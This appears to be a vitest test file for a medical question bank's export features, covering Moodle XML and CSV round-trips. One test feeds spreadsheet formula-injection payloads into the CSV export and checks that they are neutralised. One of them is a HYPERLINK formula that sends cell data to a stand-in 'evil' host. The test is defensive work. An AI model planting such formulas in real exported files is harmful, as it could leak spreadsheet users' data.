import { readFileSync } from "node:fs";
import { listQuestionsForExport } from "@qbank/db";
import { unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { failure } from "#test/expect-error.ts";
import { createHarness, signedIn, type Harness } from "#test/harness.ts";

let source: Harness;
let target: Harness;
beforeAll(async () => {
  [source, target] = await Promise.all([createHarness(), createHarness()]);
  const { api } = await signedIn(source, { level: 6 });
  for (const name of ["cardiology.xml", "neurology.gift"]) {
    await api.content.importFile({
      file: readFileSync(new URL(`./fixtures/${name}`, import.meta.url)),
      file_name: name,
    });
  }
});
afterAll(async () => {
  await Promise.all([source.close(), target.close()]);
});

/** What must survive an export and import: everything but ids and the url Moodle has no field for. */
async function bank(h: Harness, withUrl: boolean) {
  const rows = await listQuestionsForExport(h.deps.db, null);
  return rows
    .map((r) => ({
      category: r.category_name,
      name: r.name,
      text: r.question_text,
      options: r.options,
      explanation: r.explanation_text,
      external_id: r.external_id,
      image: r.image_bytes?.toString("base64") ?? null,
      areas: r.areas,
      ...(withUrl ? { url: r.url } : {}),
    }))
    .sort((a, b) => a.text.localeCompare(b.text));
}

describe("question export", () => {
  it("gives the same questions back when a Moodle XML export is imported into an empty bank", async () => {
    const { api } = await signedIn(source, { level: 6 });
    const file = await api.content.exportFile({ format: "moodle-xml" });
    expect(file).toMatchObject({ name: "questions.xml", mime: "application/xml; charset=utf-8" });
    const importer = (await signedIn(target, { level: 6 })).api;
    expect(await importer.content.importFile({ file: file.bytes, file_name: file.name })).toMatchObject({
      created: 4,
      skipped: [],
    });
    const expected = await bank(source, false);
    expect(expected).toHaveLength(4);
    expect(expected.map((q) => q.name).sort()).toEqual(["Bell", "Chest pain at rest", "Thunderclap", "Wheeze"]);
    expect(expected.some((q) => q.image !== null)).toBe(true);
    expect(await bank(target, false)).toEqual(expected);
    expect(await importer.content.importFile({ file: file.bytes, file_name: file.name })).toMatchObject({
      created: 0,
      unchanged: 4,
    });
  });

  it("exports a category as a CSV zip with its pictures, which imports unchanged", async () => {
    const { api } = await signedIn(source, { level: 6 });
    const cardiology = (await api.admin.categories()).find((c) => c.name === "Cardiology")!;
    const file = await api.content.exportFile({ format: "csv", category: cardiology.id });
    expect(file.name).toBe("questions-Cardiology.zip");
    const files = unzipSync(file.bytes);
    const csv = Buffer.from(files["questions-Cardiology.csv"]!).toString("utf8");
    expect(csv.split("\r\n")[0]).toBe(
      "category,text,option_1,option_2,option_3,option_4,option_5,correct,explanation,image,url,areas,external_id",
    );
    expect(csv).toContain("Acute and emergency;Cardiovascular,CARD-001");
    expect(Object.keys(files)).toHaveLength(2);
    const importer = (await signedIn(target, { level: 6 })).api;
    expect(await importer.content.importFile({ file: file.bytes, file_name: file.name })).toMatchObject({
      unchanged: 1,
    });
    expect(
      await failure(api.content.exportFile({ format: "csv", category: "0190aaaa-0000-7000-8000-000000000000" })),
    ).toMatchObject({
      code: "NOT_FOUND",
    });
  });

  it("neutralises formula cells in the CSV export, as the account export does", async () => {
    const { api } = await signedIn(source, { level: 6 });
    const formulas = ['=HYPERLINK("http://evil"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+2", "+A1"];
    const { id: category } = await api.admin.categoryCreate({ name: "=Formulas" });
    const header = "category,text,option_1,option_2,option_3,option_4,option_5,correct,explanation";
    const row = `"=Formulas","${formulas[0]!.replace(/"/g, '""')}",${formulas
      .slice(1, 6)
      .map((f) => `"${f}"`)
      .join(",")},1,@explained`;
    expect(
      await api.content.importFile({ file: Buffer.from(`${header}\n${row}\n`), file_name: "f.csv", category }),
    ).toMatchObject({ created: 1 });
    const file = await api.content.exportFile({ format: "csv", category });
    const [, line] = file.bytes.toString("utf8").split("\r\n");
    expect(line).toBe(
      `"'=Formulas","'=HYPERLINK(""http://evil""&A1,""x"")","'+1+1","'-2+3","'@SUM(A1:A2)","'=1+2","'+A1",1,"'@explained",,,,`,
    );
  });

  it("writes each question's own name into the Moodle export: imported, typed in the form, else the stem's start", async () => {
    const { api } = await signedIn(source, { level: 6 });
    const { id: category } = await api.admin.categoryCreate({ name: "Named" });
    const form = (text: string, name?: string) => ({
      category,
      text,
      option_1: "Right",
      option_2: "Two",
      option_3: "Three",
      option_4: "Four",
      option_5: "Five",
      solution: "Because.",
      ...(name === undefined ? {} : { name }),
    });
    const typed = await api.admin.questionCreate(form("A stem typed in the form with a name", "  Typed name "));
    expect(typed.name).toBe("Typed name");
    await api.admin.questionCreate(
      form("A stem typed in the form without any name, long enough to be cut at sixty characters"),
    );
    const renamed = await api.admin.questionCreate(form("A stem whose name is changed", "First name"));
    expect((await api.admin.questionEdit({ ...form(renamed.text, "Second name"), id: renamed.id })).name).toBe(
      "Second name",
    );
    // A client that sends no name keeps the stored one.
    expect((await api.admin.questionEdit({ ...form(renamed.text), id: renamed.id, solution: "Edited." })).name).toBe(
      "Second name",
    );

    const file = await api.content.exportFile({ format: "moodle-xml", category });
    const names = [...file.bytes.toString("utf8").matchAll(/<name>\s*<text>([^<]*)<\/text>/g)].map((m) => m[1]);
    expect(names.sort()).toEqual([
      "A stem typed in the form without any name, long enough to be",
      "Second name",
      "Typed name",
    ]);
    const history = await api.content.history({ id: renamed.id });
    expect(history.map((r) => r.changed)).toEqual([["explanation"], ["name"], ["created"]]);
  });
});
